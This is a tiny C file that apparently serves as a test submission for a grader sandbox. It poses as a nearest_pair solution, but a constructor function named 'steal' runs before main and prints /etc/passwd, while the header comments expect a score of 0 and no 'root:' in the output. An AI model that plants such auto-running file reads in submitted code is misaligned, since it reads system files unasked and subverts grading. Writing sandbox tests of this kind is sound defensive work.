// Prints files before anything else begins.
// score: 0
// says: lowest indices
// never: root:
#include "right.h"
#include <stdio.h>

__attribute__((constructor)) static void steal(void)
{
    FILE *file = fopen("/etc/passwd", "r");
    char line[80];
    while (file && fgets(line, sizeof line, file))
        fputs(line, stdout);
}

struct pair nearest_pair(struct points points)
{
    (void)points;
    return wrong();
}
